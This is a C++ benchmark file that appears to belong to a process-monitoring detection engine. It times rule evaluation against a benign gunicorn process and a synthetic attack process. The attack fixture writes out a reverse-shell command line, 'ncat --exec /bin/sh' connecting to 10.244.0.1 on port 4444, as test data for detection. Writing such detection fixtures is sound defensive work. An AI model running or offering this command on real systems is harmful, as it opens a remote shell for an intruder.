// Rule evaluation cost with the built-in rules (Google Benchmark).
#include <benchmark/benchmark.h>

#include "sandwatch/core/rules/engine.h"
#include "sandwatch/core/rules/loader.h"

namespace sandwatch::rules {
namespace {

class BenchWorld : public RuleWorld {
 public:
  bool ExeInBaseline(const ProcessInfo&) const override { return true; }
  std::optional<SocketInfo> PipePeerConnection(uint64_t, int) const override {
    return std::nullopt;
  }
};

ProcessInfo Benign() {
  ProcessInfo p;
  p.key = {1234, 5};
  p.ppid = 1;
  p.name = "python3";
  p.exe = "/usr/bin/python3.11";
  p.cmdline = {"python3",   "-m", "gunicorn", "app:server",
               "--workers", "4",  "--bind",   "0.0.0.0:8080"};
  p.ancestors = {{1, "sh", {"/bin/sh", "-c", "python3 -m gunicorn app:server"}}};
  for (int fd = 0; fd < 16; ++fd) {
    p.fds.push_back(FdInfo{fd, FdKind::kFile, "/srv/app/file" + std::to_string(fd) + ".py", 0});
  }
  return p;
}

ProcessInfo Attack() {
  ProcessInfo p;
  p.key = {4321, 9};
  p.ppid = 20;
  p.name = "ncat";
  p.exe = "/usr/bin/ncat";
  p.cmdline = {"ncat", "--exec", "/bin/sh", "10.244.0.1", "4444"};
  p.ancestors = {{20, "bash", {"/bin/bash"}}};
  p.fds = {{0, FdKind::kTty, "/dev/pts/0", 0}, {3, FdKind::kSocket, "socket:[9]", 9}};
  p.sockets = {{9, "tcp", "10.0.0.5:40000", "10.244.0.1:4444", 1}};
  return p;
}

void Run(benchmark::State& state, const ProcessInfo& p) {
  RuleEngine engine(DefaultRules().value(), {"sleep"});
  BenchWorld world;
  size_t matches = 0;
  for ([[maybe_unused]] auto _ : state) {
    auto m = engine.Evaluate({&p, std::nullopt}, world);
    matches += m.size();
    benchmark::DoNotOptimize(m);
  }
  state.counters["matches_per_eval"] =
      static_cast<double>(matches) / static_cast<double>(state.iterations());
}

void BM_EvaluateDefaultRules_Benign(benchmark::State& state) { Run(state, Benign()); }
void BM_EvaluateDefaultRules_NcatExec(benchmark::State& state) { Run(state, Attack()); }

void BM_LoadDefaultRules(benchmark::State& state) {
  for ([[maybe_unused]] auto _ : state) {
    auto r = DefaultRules();
    benchmark::DoNotOptimize(r);
  }
}

BENCHMARK(BM_EvaluateDefaultRules_Benign);
BENCHMARK(BM_EvaluateDefaultRules_NcatExec);
BENCHMARK(BM_LoadDefaultRules)->Unit(benchmark::kMillisecond);

}  // namespace
}  // namespace sandwatch::rules

BENCHMARK_MAIN();
